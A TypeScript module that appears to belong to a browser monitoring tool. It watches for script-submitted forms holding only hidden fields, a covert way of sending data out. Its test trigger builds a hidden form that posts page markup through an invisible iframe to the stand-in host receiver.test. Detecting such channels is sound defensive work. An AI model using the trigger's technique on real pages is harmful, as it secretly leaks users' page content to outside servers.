import { encodeComponent, getterOf, isA, methodOf, slice, wellFormed } from '../natives';
import { on, type Surface, type Trigger } from '../surface';

// Each asked of the prototype: a form's fields can be named like any property of it.
const actionOf = getterOf<string>('HTMLFormElement', 'action');
const elementsOf = getterOf<unknown>('HTMLFormElement', 'elements');
const itemOf = methodOf<[number], unknown>('HTMLCollection', 'item');
const isInput = isA('HTMLInputElement');
const typeOf = getterOf<string>('HTMLInputElement', 'type');
const nameOf = getterOf<string>('HTMLInputElement', 'name');
const valueOf = getterOf<string>('HTMLInputElement', 'value');
const mostFields = 30;
const longestValue = 32 * 1024;

/**
 * Forms that nobody sees and a script sends, as into a frame that nobody sees either: the oldest way to tell somebody
 * something. Payments and sign-ins go the same way, so nothing but what was typed or stands in the page is told of.
 */
export const forms: Surface = ({ sends }) => {
  on('HTMLFormElement', 'submit', (_args, self) => {
    const fields = hiddenFieldsOf(self);
    if (fields !== '') sends.note('form', actionOf(self), slice(fields, 1));
  });
};

/** Names and values as in an address; '': none, or a person can fill it in, and has sent it. */
function hiddenFieldsOf(form: unknown): string {
  const elements = elementsOf(form);
  let fields = '';
  for (let index = 0; index < mostFields; index++) {
    const element = itemOf(elements, index);
    if (element === null) break;
    if (!isInput(element) || typeOf(element) !== 'hidden') return '';
    fields += `&${encoded(nameOf(element))}=${encoded(valueOf(element))}`;
  }
  return fields;
}

const encoded = (text: string): string => encodeComponent(wellFormed(slice(text, 0, longestValue)));

export const formTriggers = (): Trigger[] => [
  {
    run: `(() => {
      const form = document.createElement('form');
      form.innerHTML = '<input type="hidden" name="markup">';
      form.firstChild.value = '<p>${'a word '.repeat(4)}</p>'.repeat(10);
      form.method = 'post';
      form.action = 'https://receiver.test/form';
      form.target = 'nobody-' + Math.random();
      document.body.append(form, Object.assign(document.createElement('iframe'), { name: form.target, hidden: true }));
      form.submit();
    })()`,
    kind: 'send',
    gives: { api: 'form', url: 'https://receiver.test/form', holdsPageContent: true },
  },
];
